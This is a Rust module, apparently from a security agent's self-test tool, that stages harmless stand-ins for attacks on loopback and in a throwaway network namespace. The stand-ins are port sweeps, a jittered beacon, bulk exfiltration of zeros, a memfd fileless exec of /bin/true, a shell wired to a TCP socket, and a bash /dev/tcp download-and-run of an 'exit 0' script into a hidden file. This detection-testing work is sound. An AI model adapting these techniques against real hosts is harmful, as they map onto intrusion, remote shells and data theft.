//! The stand-ins: real syscalls and real traffic, confined to loopback, a
//! network namespace the simulation creates and a scratch directory. Every
//! resource is held by a guard whose `Drop` removes it, so an error or an
//! interrupt leaves nothing behind.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// The simulation's own /29 (RFC 2544 benchmarking space, never routed):
/// the host end of its veth and the stand-in namespace's end, plus a
/// second namespace address for the exfiltration sink, so an agent in
/// enforce mode that blocks the sink does not cut off the sweep's source.
pub const HOST_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 86, 1);
pub const SIM_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 86, 2);
pub const SINK_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 86, 3);
const PREFIX: u8 = 29;

#[derive(Debug, thiserror::Error)]
pub enum StandinError {
    #[error("{0}: {1}")]
    Io(String, std::io::Error),
    #[error("`{0}` failed: {1}")]
    Tool(String, String),
    #[error("{0} is already in use on this host; simulate uses it only when nothing else does")]
    AddressInUse(String),
    #[error("interrupted")]
    Interrupted,
    /// The stand-in cannot do what the config asks in time: the row is
    /// skipped, not failed.
    #[error("{0}")]
    Needs(String),
}

fn io(what: impl Into<String>) -> impl FnOnce(std::io::Error) -> StandinError {
    let what = what.into();
    move |e| StandinError::Io(what, e)
}

/// Runs a tool to completion; its stderr names the problem when it fails.
fn tool(cmd: &str, args: &[&str]) -> Result<String, StandinError> {
    let line = format!("{cmd} {}", args.join(" "));
    let out = Command::new(cmd)
        .args(args)
        .stdin(Stdio::null())
        .output()
        .map_err(io(line.clone()))?;
    if !out.status.success() {
        return Err(StandinError::Tool(
            line,
            String::from_utf8_lossy(&out.stderr).trim().to_string(),
        ));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// A child killed and reaped when dropped.
pub struct Reaped(pub Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A network namespace held by a `sleep` child (it dies with us: parent
/// death signal, bounded sleep), with a veth pair to the host's namespace.
/// Dropping it deletes the host end (which deletes the pair) and ends the
/// child (which ends the namespace).
pub struct SimNet {
    holder: Reaped,
    host_if: String,
}

impl SimNet {
    pub fn create(lifetime_s: u64) -> Result<SimNet, StandinError> {
        let addrs = tool("ip", &["-o", "-4", "addr", "show"])?;
        for a in [HOST_ADDR, SIM_ADDR, SINK_ADDR] {
            if addrs.contains(&format!("inet {a}/")) {
                return Err(StandinError::AddressInUse(a.to_string()));
            }
        }
        if addrs.contains("inet 10.255.86.") {
            return Err(StandinError::AddressInUse("10.255.86.0/24".into()));
        }
        let mut cmd = Command::new("sleep");
        cmd.arg(lifetime_s.to_string()).stdin(Stdio::null());
        // SAFETY: only async-signal-safe calls between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                if libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL) != 0
                    || libc::unshare(libc::CLONE_NEWNET) != 0
                {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let holder = Reaped(
            cmd.spawn()
                .map_err(io("a network namespace for the stand-ins"))?,
        );
        let tag = std::process::id() % 100_000;
        let net = SimNet {
            holder,
            host_if: format!("vsim{tag}h"),
        };
        let sim_if = format!("vsim{tag}s");
        let pid = net.holder.0.id().to_string();
        tool(
            "ip",
            &[
                "link",
                "add",
                &net.host_if,
                "type",
                "veth",
                "peer",
                "name",
                &sim_if,
            ],
        )?;
        tool("ip", &["link", "set", &sim_if, "netns", &pid])?;
        tool(
            "ip",
            &[
                "addr",
                "add",
                &format!("{HOST_ADDR}/{PREFIX}"),
                "dev",
                &net.host_if,
            ],
        )?;
        tool("ip", &["link", "set", &net.host_if, "up"])?;
        let ns = format!("--net=/proc/{pid}/ns/net");
        for a in [SIM_ADDR, SINK_ADDR] {
            tool(
                "nsenter",
                &[
                    &ns,
                    "ip",
                    "addr",
                    "add",
                    &format!("{a}/{PREFIX}"),
                    "dev",
                    &sim_if,
                ],
            )?;
        }
        tool("nsenter", &[&ns, "ip", "link", "set", &sim_if, "up"])?;
        tool("nsenter", &[&ns, "ip", "link", "set", "lo", "up"])?;
        Ok(net)
    }

    /// Runs `f` on a thread that has entered the namespace (network
    /// namespaces are per thread, so the rest of the process stays put).
    pub fn inside<T: Send>(&self, f: impl FnOnce() -> T + Send) -> Result<T, StandinError> {
        let path = format!("/proc/{}/ns/net", self.holder.0.id());
        let ns = std::fs::File::open(&path).map_err(io(path.clone()))?;
        std::thread::scope(|s| {
            s.spawn(|| {
                // SAFETY: a valid namespace fd; affects this thread only.
                if unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
                    return Err(StandinError::Io(path, std::io::Error::last_os_error()));
                }
                Ok(f())
            })
            .join()
            .unwrap_or(Err(StandinError::Tool(
                "namespace thread".into(),
                "panicked".into(),
            )))
        })
    }
}

impl Drop for SimNet {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_if])
            .stderr(Stdio::null())
            .status();
    }
}

/// From the stand-in namespace, TCP connects to `n` closed ports of the
/// host end (SYN, answered by RST): returns (refused, tried). Stops at `n`
/// refusals or `4 n` tries; ports a host service listens on do not count.
pub fn port_sweep(
    net: &SimNet,
    n: usize,
    stop: &(dyn Fn() -> bool + Sync),
) -> Result<(usize, usize), StandinError> {
    net.inside(|| {
        let (mut refused, mut tried) = (0, 0);
        for port in 47_000u16..47_000 + 4 * n as u16 {
            if refused >= n || stop() {
                break;
            }
            tried += 1;
            let to = SocketAddr::from((HOST_ADDR, port));
            if let Err(e) = TcpStream::connect_timeout(&to, Duration::from_millis(300)) {
                if e.kind() == std::io::ErrorKind::ConnectionRefused {
                    refused += 1;
                }
            }
        }
        (refused, tried)
    })
}

/// Inside the stand-in namespace, `n` (at most 64) addresses of
/// 10.255.86.0/24 on its loopback, so a fan-out has internal peers that
/// exist nowhere else: returns them.
pub fn add_peers(net: &SimNet, n: usize) -> Result<Vec<Ipv4Addr>, StandinError> {
    let ns = format!("--net=/proc/{}/ns/net", net.holder.0.id());
    let peers: Vec<Ipv4Addr> = (1..=n.min(64) as u8)
        .map(|i| Ipv4Addr::new(10, 255, 86, i))
        .collect();
    for p in &peers {
        tool(
            "nsenter",
            &[&ns, "ip", "addr", "add", &format!("{p}/32"), "dev", "lo"],
        )?;
    }
    Ok(peers)
}

/// From the stand-in namespace, one TCP connect to `port` of each peer
/// (its own addresses, nothing listens): returns how many were refused.
pub fn admin_sweep(net: &SimNet, peers: &[Ipv4Addr], port: u16) -> Result<usize, StandinError> {
    net.inside(|| {
        peers
            .iter()
            .filter(|p| {
                let to = SocketAddr::from((**p, port));
                matches!(
                    TcpStream::connect_timeout(&to, Duration::from_millis(300)),
                    Err(e) if e.kind() == std::io::ErrorKind::ConnectionRefused
                )
            })
            .count()
    })
}

/// A jittered beacon from the stand-in namespace to a listener this
/// process owns on the host end: `count` connections, each sending and
/// receiving a few fixed bytes, `interval` apart ± `jitter` (a fraction).
/// Returns how many connected and the last connect error.
pub fn beacon(
    net: &SimNet,
    count: usize,
    interval: Duration,
    jitter: f64,
    stop: &(dyn Fn() -> bool + Sync),
) -> Result<(usize, Option<String>), StandinError> {
    let listener = TcpListener::bind((HOST_ADDR, 0)).map_err(io("beacon listener"))?;
    listener
        .set_nonblocking(true)
        .map_err(io("beacon listener"))?;
    let port = listener.local_addr().map_err(io("beacon listener"))?.port();
    let done = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|s| {
        s.spawn(|| {
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                match listener.accept() {
                    Ok((mut c, _)) => {
                        let _ = c.set_nonblocking(false);
                        let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                        let mut buf = [0u8; 64];
                        let _ = c.read(&mut buf);
                        let _ = c.write_all(&[b'k'; 32]);
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        let sent = net.inside(|| {
            // xorshift: the jitter needs no quality, only spread.
            let mut x = u64::from(std::process::id()) | 1;
            let (mut ok, mut last_err) = (0, None);
            for _ in 0..count {
                if stop() {
                    break;
                }
                let to = SocketAddr::from((HOST_ADDR, port));
                match TcpStream::connect_timeout(&to, Duration::from_millis(300)) {
                    Ok(mut c) => {
                        let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                        let _ = c.write_all(&[b'b'; 64]);
                        let mut buf = [0u8; 64];
                        while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
                        ok += 1;
                    }
                    Err(e) => last_err = Some(e.to_string()),
                }
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                let r = (x % 2001) as f64 / 1000.0 - 1.0;
                std::thread::sleep(interval.mul_f64((1.0 + jitter * r).max(0.0)));
            }
            (ok, last_err)
        });
        done.store(true, std::sync::atomic::Ordering::SeqCst);
        sent
    })
}

/// A listener on SINK_ADDR inside the stand-in namespace (a socket stays
/// in the namespace it was made in) drains whatever each connection sends,
/// one connection at a time, while `send` runs here, in the host's
/// namespace, with the listener's address.
pub fn to_sink<T>(
    net: &SimNet,
    send: impl FnOnce(SocketAddr) -> Result<T, StandinError>,
) -> Result<T, StandinError> {
    let listener = net
        .inside(|| TcpListener::bind((SINK_ADDR, 0)))?
        .map_err(io("sink listener"))?;
    listener
        .set_nonblocking(true)
        .map_err(io("sink listener"))?;
    let to = listener.local_addr().map_err(io("sink listener"))?;
    let done = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|s| {
        s.spawn(|| {
            let mut buf = vec![0u8; 1 << 20];
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                match listener.accept() {
                    Ok((mut c, _)) => {
                        let _ = c.set_nonblocking(false);
                        let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                        // To the sender's close: an unread byte would make
                        // our close a reset.
                        while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        let sent = send(to);
        done.store(true, std::sync::atomic::Ordering::SeqCst);
        sent
    })
}

/// One connection to `to` that sends `data` repeatedly until `bytes` are
/// out, `deadline` passes or `stop` says so, then closes cleanly (waits for
/// the sink's close). Returns the bytes sent.
fn push(
    to: SocketAddr,
    data: &[u8],
    bytes: u64,
    deadline: std::time::Instant,
    stop: &dyn Fn() -> bool,
) -> Result<u64, StandinError> {
    let mut c = TcpStream::connect_timeout(&to, Duration::from_secs(2))
        .map_err(io(format!("connect {to}")))?;
    c.set_write_timeout(Some(Duration::from_millis(500)))
        .map_err(io("sink connection"))?;
    c.set_read_timeout(Some(Duration::from_secs(5)))
        .map_err(io("sink connection"))?;
    let mut sent = 0u64;
    while sent < bytes && std::time::Instant::now() < deadline && !stop() {
        let n = (bytes - sent).min(data.len() as u64) as usize;
        match c.write(&data[..n]) {
            Ok(k) => sent += k as u64,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock
                        | std::io::ErrorKind::TimedOut
                        | std::io::ErrorKind::Interrupted
                ) => {}
            Err(e) => return Err(StandinError::Io(format!("sending to {to}"), e)),
        }
    }
    c.shutdown(std::net::Shutdown::Write)
        .map_err(io("sink connection"))?;
    let mut buf = [0u8; 64];
    while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
    Ok(sent)
}

/// A bulk upload of `bytes` zeros in one TCP connection from the host to
/// the sink, within `limit`: returns the seconds it took, or
/// `Needs` when it could not finish in time.
pub fn bulk_upload(
    net: &SimNet,
    bytes: u64,
    limit: Duration,
    stop: &dyn Fn() -> bool,
) -> Result<f64, StandinError> {
    let data = vec![0u8; 1 << 20];
    let start = std::time::Instant::now();
    let sent = to_sink(net, |to| push(to, &data, bytes, start + limit, stop))?;
    let seconds = start.elapsed().as_secs_f64();
    if stop() {
        return Err(StandinError::Interrupted);
    }
    if sent < bytes {
        return Err(StandinError::Needs(super::exfil::too_slow(
            bytes, sent, seconds,
        )));
    }
    Ok(seconds)
}

/// `count` connections from the host to the sink, each pushing exactly
/// `size` zeros and nothing else (no request comes back): returns how many
/// were sent whole.
pub fn equal_chunks(
    net: &SimNet,
    count: usize,
    size: u64,
    stop: &dyn Fn() -> bool,
) -> Result<usize, StandinError> {
    let data = vec![0u8; size.min(1 << 20) as usize];
    to_sink(net, |to| {
        let mut whole = 0;
        for _ in 0..count {
            if stop() {
                return Err(StandinError::Interrupted);
            }
            let deadline = std::time::Instant::now() + Duration::from_secs(10);
            if push(to, &data, size, deadline, stop)? == size {
                whole += 1;
            }
        }
        Ok(whole)
    })
}

/// memfd_create, a copy of /bin/true in it, execve of /proc/self/fd/N:
/// returns the pid that ran.
pub fn memfd_exec() -> Result<u32, StandinError> {
    let bin = std::fs::read("/bin/true").map_err(io("/bin/true"))?;
    // Named per run, so a rerun is a new alert rather than a count update.
    let name = std::ffi::CString::new(format!("vigil-simulate-{}", std::process::id()))
        .map_err(|e| StandinError::Tool("memfd name".into(), e.to_string()))?;
    // Not close-on-exec: the child execs its own /proc/self/fd/N.
    // SAFETY: a NUL-terminated name; the fd is owned right below.
    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
    if fd < 0 {
        return Err(StandinError::Io(
            "memfd_create".into(),
            std::io::Error::last_os_error(),
        ));
    }
    // SAFETY: fd was just returned by memfd_create and is not owned elsewhere.
    let owned = unsafe { OwnedFd::from_raw_fd(fd) };
    let mut file = std::fs::File::from(owned);
    file.write_all(&bin).map_err(io("writing the memfd"))?;
    let path = format!("/proc/self/fd/{fd}");
    let mut child = Command::new(&path)
        .stdin(Stdio::null())
        .spawn()
        .map_err(io(path))?;
    let pid = child.id();
    child.wait().map_err(io("waiting for the memfd exec"))?;
    Ok(pid)
}

/// A shell whose stdin and stdout are a TCP connection to a listener this
/// process owns on loopback. It waits on the socket (the agent reads its
/// descriptors from /proc after the exec) and exits when this is dropped.
pub struct RevShell {
    pub pid: u32,
    _peer: TcpStream,
    _shell: Reaped,
}

pub fn reverse_shell() -> Result<RevShell, StandinError> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io("loopback listener"))?;
    let addr = listener.local_addr().map_err(io("loopback listener"))?;
    let conn = TcpStream::connect(addr).map_err(io(format!("connect {addr}")))?;
    let (peer, _) = listener.accept().map_err(io("accept"))?;
    let out = conn.try_clone().map_err(io("dup"))?;
    // `read` returns when the peer closes: dropping RevShell ends it.
    let child = Command::new("/bin/sh")
        .args(["-c", "read -r _"])
        .stdin(Stdio::from(OwnedFd::from(conn)))
        .stdout(Stdio::from(OwnedFd::from(out)))
        .spawn()
        .map_err(io("/bin/sh"))?;
    Ok(RevShell {
        pid: child.id(),
        _shell: Reaped(child),
        _peer: peer,
    })
}

/// A scratch directory removed with everything in it when dropped.
pub struct Scratch(pub PathBuf);

impl Scratch {
    pub fn create(base: &Path) -> Result<Scratch, StandinError> {
        let dir = base.join(format!("vigil-simulate-{}", std::process::id()));
        std::fs::create_dir_all(&dir).map_err(io(dir.display().to_string()))?;
        Ok(Scratch(dir))
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A loopback HTTP server (one request) hands a script to a downloader
/// child, which writes it under a hidden name in `dir`; the file is then
/// run. Returns the path run.
pub fn download_and_run(dir: &Path) -> Result<PathBuf, StandinError> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io("loopback listener"))?;
    let addr = listener.local_addr().map_err(io("loopback listener"))?;
    let body = "#!/bin/sh\nexit 0\n";
    let server = std::thread::spawn(move || -> std::io::Result<()> {
        let (mut s, _) = listener.accept()?;
        s.set_read_timeout(Some(Duration::from_secs(5)))?;
        // The whole request (bounded), then the answer, then a clean
        // close: unread input would make the close a reset.
        let mut req = Vec::new();
        let mut buf = [0u8; 1024];
        while !req.windows(4).any(|w| w == b"\r\n\r\n") && req.len() < 8192 {
            match s.read(&mut buf)? {
                0 => break,
                n => req.extend_from_slice(&buf[..n]),
            }
        }
        write!(
            s,
            "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )?;
        s.shutdown(std::net::Shutdown::Write)?;
        while s.read(&mut buf)? > 0 {}
        Ok(())
    });
    let target = dir.join(".vigil-simulate-update.sh");
    // The downloader is a shell of its own that connects and then creates
    // the file itself, so the writer is a network-facing process.
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port}; exec 4>{target}; \
         printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 >&4",
        port = addr.port(),
        target = target.display()
    );
    let st = Command::new("bash")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .status()
        .map_err(io("bash (downloader)"))?;
    let _ = server.join();
    if !st.success() {
        return Err(StandinError::Tool("bash downloader".into(), st.to_string()));
    }
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755))
        .map_err(io(target.display().to_string()))?;
    let st = Command::new(&target)
        .stdin(Stdio::null())
        .status()
        .map_err(io(target.display().to_string()))?;
    if !st.success() {
        return Err(StandinError::Tool(
            target.display().to_string(),
            st.to_string(),
        ));
    }
    Ok(target)
}
